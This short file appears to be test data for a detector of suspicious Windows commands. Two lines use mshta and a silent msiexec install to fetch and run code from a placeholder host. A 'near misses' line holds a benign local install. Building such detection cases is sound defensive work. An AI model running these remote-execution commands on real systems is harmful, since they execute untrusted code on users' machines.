mshta https://a.invalid/a.hta
msiexec /i https://a.invalid/a.msi /qn
# near misses
msiexec /i setup.msi
